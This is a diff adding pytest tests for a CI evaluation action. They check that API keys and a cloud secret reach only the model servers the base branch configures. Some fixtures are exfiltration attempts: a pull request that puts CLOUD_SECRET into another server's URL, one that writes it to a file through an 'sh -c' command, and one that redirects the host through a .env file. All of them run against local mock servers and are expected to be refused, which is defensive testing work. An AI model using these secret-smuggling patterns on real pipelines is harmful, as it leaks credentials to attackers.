@@ -1,0 +1,148 @@
+"""The variables that the targets of a pull request may use, end to end: a key goes only where the
+base sends it."""
+
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from tests.support import payloads
+from tests.support.github_server import GitHubServer
+from tests.support.github_world import file
+from tests.support.job import Finished, Job
+from tests.support.openai_server import OpenAIServer
+from tests.support.repositories import Files, pull_request
+
+NUMBER = 7
+KEY, CLOUD = "agent-key-1234567", "cloud-secret-7654321"
+SUITE = """\
+name: greeter
+tests:
+  - {id: greets, input: Ada, assert: [{type: contains, value: hello, required: true}]}
+"""
+REFUSED = "which no target of the base sends to the same address; it can do so after the merge"
+
+
+@pytest.fixture
+def base() -> Iterator[OpenAIServer]:
+    with OpenAIServer(otherwise="hello") as server:
+        yield server
+
+
+@pytest.fixture
+def other() -> Iterator[OpenAIServer]:
+    with OpenAIServer(otherwise="hello") as server:
+        yield server
+
+
+def target(url: str, key: str = "api_key: '${{ AGENT_KEY }}'", more: str = "") -> str:
+    fields = f"name: default, provider: openai, model: m, base_url: '{url}'"
+    return f"targets: [{{{fields}{f', {key}' if key else ''}{more}}}]\n"
+
+
+def gated(folder: Path, targets: tuple[str, str], **inputs: str) -> Finished:
+    """The pull request that changes the targets of the base into those of head."""
+    path = ".agentv/targets.yaml"
+    before, after = ({"EVAL.yaml": SUITE, path: text} for text in targets)
+    head: Files = {**after, "EVAL.yaml": SUITE + "# changed\n"}
+    return finished(folder, before, head, **inputs)
+
+
+def finished(folder: Path, before: Files, head: Files, **inputs: str) -> Finished:
+    pull = pull_request(folder / "origin", before, head)
+    with GitHubServer() as server:
+        server.add_pull(NUMBER, pull.head, pull.main, [file(path) for path in head])
+        return Job(
+            pull.checkout(folder / "workspace", pull.merge).path,
+            server,
+            payloads.pull_request_event(pull.head, pull.main, NUMBER),
+            pull.merge,
+            folder / "runner",
+            inputs=inputs,
+            env={"AGENT_KEY": KEY, "CLOUD_SECRET": CLOUD, "OPENAI_API_KEY": KEY},
+        ).finish()
+
+
+def keys(server: OpenAIServer) -> set[str]:
+    return {request.headers.get("authorization", "") for request in server.requests}
+
+
+def test_targets__a_key_goes_where_the_base_sends_it(tmp_path: Path, base: OpenAIServer) -> None:
+    changed = target(base.url, more=", timeout_seconds: 20")
+    done = gated(tmp_path, (target(base.url), changed))
+    assert done.code == 0, done.log
+    assert keys(base) == {f"Bearer {KEY}"}
+
+
+@pytest.mark.parametrize("key", ["api_key: '${{ AGENT_KEY }}'", ""])
+def test_targets__a_key_does_not_go_to_another_server(
+    tmp_path: Path, base: OpenAIServer, other: OpenAIServer, key: str
+) -> None:
+    """Without `api_key` the vendor's usual variable would be sent."""
+    done = gated(tmp_path, (target(base.url, key), target(other.url, key)))
+    assert done.code == 3, done.log
+    assert f"{'AGENT_KEY' if key else 'OPENAI_API_KEY'}, {REFUSED}" in done.log
+    assert other.requests == []
+    assert keys(base) == {f"Bearer {KEY}"}
+
+
+def test_targets__a_variable_of_the_step_does_not_get_into_a_url(
+    tmp_path: Path, base: OpenAIServer, other: OpenAIServer
+) -> None:
+    url = f"{other.url}/${{{{ CLOUD_SECRET }}}}"
+    thief = f"targets: [{{name: default, provider: http, url: '{url}'}}]\n"
+    done = gated(tmp_path, (target(base.url), thief))
+    assert done.code == 3, done.log
+    assert f"CLOUD_SECRET, {REFUSED}" in done.log
+    assert other.requests == []
+
+
+def test_targets__a_variable_of_the_step_does_not_get_into_a_command(
+    tmp_path: Path, base: OpenAIServer
+) -> None:
+    command = "[sh, -c, 'echo hello; echo \"$1\" > ../stolen', sh, '${{ CLOUD_SECRET }}']"
+    thief = f"targets: [{{name: default, provider: cli, cwd: /, command: {command}}}]\n"
+    done = gated(tmp_path, (target(base.url), thief))
+    assert done.code == 3, done.log
+    assert f"CLOUD_SECRET, {REFUSED}" in done.log
+    assert not (tmp_path / "stolen").exists()
+
+
+def test_targets__a_host_in_a_dotenv_file_does_not_move_the_key(
+    tmp_path: Path, base: OpenAIServer, other: OpenAIServer
+) -> None:
+    """The targets file is the same on both sides; the pull request changes the host that it uses."""
+    files = {"EVAL.yaml": SUITE, ".agentv/targets.yaml": target("${{ SERVER }}")}
+    done = finished(
+        tmp_path,
+        {**files, ".env": f"SERVER={base.url}\n"},
+        {"EVAL.yaml": SUITE + "# changed\n", ".env": f"SERVER={other.url}\n"},
+    )
+    assert done.code == 3, done.log
+    assert f"AGENT_KEY and SERVER, {REFUSED}" in done.log
+    assert other.requests == []
+
+
+def test_targets__a_name_in_the_input_env_may_go_anywhere(
+    tmp_path: Path, base: OpenAIServer, other: OpenAIServer
+) -> None:
+    done = gated(tmp_path, (target(base.url), target(other.url)), env="AGENT_KEY")
+    assert done.code == 0, done.log
+    assert keys(other) == {f"Bearer {KEY}"}
+
+
+def test_targets__a_push_uses_what_the_branch_has(tmp_path: Path, other: OpenAIServer) -> None:
+    pull = pull_request(tmp_path / "origin", {"EVAL.yaml": SUITE}, {"README.md": "hello"})
+    commit = pull.origin.commit("targets", {".agentv/targets.yaml": target(other.url)})
+    with GitHubServer() as server:
+        done = Job(
+            pull.checkout(tmp_path / "workspace", commit, depth=2).path,
+            server,
+            payloads.push_event(pull.main, commit),
+            commit,
+            tmp_path / "runner",
+            name="push",
+            env={"AGENT_KEY": KEY},
+        ).finish()
+    assert done.code == 0, done.log
+    assert keys(other) == {f"Bearer {KEY}"}
